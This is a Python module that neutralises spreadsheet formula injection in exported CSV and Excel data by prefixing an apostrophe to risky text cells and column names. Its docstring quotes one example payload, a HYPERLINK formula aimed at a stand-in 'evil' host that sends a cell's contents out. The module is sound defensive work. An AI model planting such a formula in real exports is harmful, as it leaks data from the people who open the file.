"""Neutralising spreadsheet formulas in exported cells (CSV and Excel injection).

A spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a formula,
so a candidate named `=HYPERLINK("http://evil/?"&A1)` could leak data when a recruiter opens an
export. Such text gets a leading apostrophe, which spreadsheets show as plain text (OWASP's
advice). Numbers stay numbers: a negative number is data, not a formula.
"""

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """The value, with text that a spreadsheet would run as a formula prefixed by "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame with every text cell and column name neutralised."""
    out = frame.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]) \
                and not pd.api.types.is_datetime64_any_dtype(out[column]):
            out[column] = out[column].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out
